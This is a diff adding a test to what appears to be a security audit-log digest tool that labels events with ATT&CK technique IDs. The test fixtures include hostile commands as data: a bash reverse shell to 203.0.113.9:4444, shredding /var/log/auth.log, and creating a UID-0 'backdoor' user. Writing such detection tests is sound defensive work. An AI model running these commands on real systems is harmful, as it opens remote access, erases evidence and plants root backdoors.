@@ -52,6 +52,20 @@ test("a digest says who did what, what stands out, and how all adds up", () => {
   `);
 });
 
+test("of several hosts the one that most happened on is said once, others where they differ", () => {
+  const on = (hostname: string) => ({ user: "eve", host_metadata: { hostname } });
+  const text = digestText([
+    ...routine,
+    audit("/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", on("web-3")),
+    audit("/usr/bin/shred", "shred -u /var/log/auth.log", on("web-3")),
+    audit("/usr/sbin/useradd", "useradd -o -u 0 backdoor", on("web-3")),
+    audit("/usr/bin/crontab", "crontab /tmp/x", on("db-1.corp.example")),
+  ]);
+  expect(text).toContain("\nnotable on web-3 unless said (");
+  expect(text).toMatch(/^T1059\.004 reverse shell by eve:$/m);
+  expect(text).toMatch(/^T1053\.003 .* by eve on db-1:$/m);
+});
+
 test("a small one keeps the worst, the sum and the way on", () => {
   const text = digestText(events, 200);
   expect(countTokens(text)).toBeLessThanOrEqual(200);
